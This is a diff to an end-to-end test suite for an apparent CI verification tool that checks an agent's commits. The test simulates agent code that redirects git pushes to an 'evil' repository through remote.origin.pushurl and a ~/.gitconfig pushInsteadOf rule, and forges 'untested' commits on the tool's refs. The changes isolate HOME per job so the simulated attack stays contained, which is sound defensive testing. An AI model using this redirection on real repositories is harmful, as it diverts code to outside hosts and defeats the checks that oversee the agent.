@@ -64,6 +64,7 @@ const git = (...args) => execFileSync('git', args, { encoding: 'utf8' }).trim()
 const evil = process.env.E2E_EVIL_URL
 if (evil) {
   git('config', 'remote.origin.pushurl', evil)
+  if (!process.env.HOME.includes('proctor-e2e-home-')) throw new Error('refusing to write a real ~/.gitconfig')
   writeFileSync(process.env.HOME + '/.gitconfig', '[url "' + evil + '"]\\n\\tpushInsteadOf = http://\\n')
   for (const ref of git('for-each-ref', '--format=%(refname)', 'refs/proctor/').split('\\n').filter(Boolean)) {
     const commit = git('commit-tree', '-p', ref, '-m', 'untested', ref + '^{tree}')
@@ -219,6 +220,8 @@ function prEvent(head: string, fork = false) {
 /** What the runner gives a JavaScript action of job `job`: runtime token and service URLs, an OIDC request. */
 function runnerEnv(service: ArtifactService, job: string, runId = RUN) {
   return {
+    // Each job on a runner of its own: code of the agent's that writes ~/.gitconfig writes this one.
+    HOME: tempDir('proctor-e2e-home-'),
     GITHUB_JOB: job,
     GITHUB_RUN_ID: String(runId),
     // Pushes carry proctor's token only to the git server it belongs to: here, the local one.
@@ -464,7 +467,6 @@ describe('the two-job layout', { timeout: 180_000 }, () => {
     const repo = repository()
     const evilName = `evil-${repoCount}.git`
     const evil = git.createRepo(evilName)
-    const home = tempDir('proctor-e2e-home-')
     const tamperDump = join(tempDir('proctor-e2e-tamper-'), 'tamper.json')
     const pushesBefore = pushes().length
 
@@ -478,7 +480,7 @@ describe('the two-job layout', { timeout: 180_000 }, () => {
     const writesBefore = writes(server).length
     const verify = await verifyJob(service, server, jobs, repo, {
       token: writeToken,
-      env: { HOME: home, E2E_EVIL_URL: git.repoUrl(evilName), E2E_TAMPER_DUMP: tamperDump },
+      env: { E2E_EVIL_URL: git.repoUrl(evilName), E2E_TAMPER_DUMP: tamperDump },
     })
     expect(verify.code, log(verify)).toBe(0)
     // The attack ran (the hook imported the agent's code)...
